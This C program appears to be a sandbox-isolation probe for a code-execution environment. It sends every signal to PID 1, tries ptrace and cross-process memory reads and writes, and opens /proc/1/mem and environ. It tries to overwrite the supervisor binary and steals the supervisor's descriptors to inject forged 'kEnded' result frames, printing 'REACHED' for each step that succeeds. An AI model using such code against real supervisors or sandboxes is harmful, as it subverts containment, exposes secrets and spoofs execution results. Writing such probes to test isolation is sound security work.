/* goes for PID 1: signals, limits, tracing, its memory, its descriptors; forges what it would say on
   every descriptor that can be had; then closes its own and stays */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
static void try(const char* what, long result) { if (result >= 0) printf("REACHED %s\n", what); }
int main(int argc, char** argv) {
  /* kind kEnded (20), the reserved word, a run, a size; Docker's own head around it */
  unsigned char frame[8 + 24 + 16] = {1, 0, 0, 0, 0, 0, 0, 40, 20};
  frame[8 + 16] = 16;
  struct rlimit none = {0, 0};
  char path[64], bytes[16];
  struct iovec here = {bytes, 16}, there = {(void*)0x400000, 16};
  for (int signal = 1; signal < 65; ++signal) try("kill", kill(1, signal));
  try("prlimit", prlimit(1, RLIMIT_NOFILE, &none, 0));
  try("ptrace", ptrace(PTRACE_SEIZE, 1, 0, 0));
  try("vm_readv", process_vm_readv(1, &here, 1, &there, 1, 0));
  try("vm_writev", process_vm_writev(1, &here, 1, &there, 1, 0));
  try("mem", open("/proc/1/mem", O_RDWR));
  try("environ", open("/proc/1/environ", O_RDONLY));
  try("oom", open("/proc/1/oom_score_adj", O_WRONLY));
  try("exe", open("/execution-engine/supervisor", O_WRONLY));
  try("renice", setpriority(PRIO_PROCESS, 1, 19));
  for (int fd = 0; fd < 64; ++fd) {
    snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
    const int stolen = open(path, O_WRONLY);
    try(path, stolen);
    if (stolen >= 0) write(stolen, frame, sizeof(frame));
    const int pidfd = syscall(SYS_pidfd_open, 1, 0);
    try("getfd", syscall(438, pidfd, fd, 0));
    close(pidfd);
    if (fd != 1) write(fd, frame, sizeof(frame));
  }
  puts("done");
  fflush(stdout);
  fwrite(frame, sizeof(frame), 1, stdout);
  fflush(stdout);
  for (int fd = 0; fd < 64; ++fd) close(fd);
  if (argc > 1) pause();
  return 0;
}
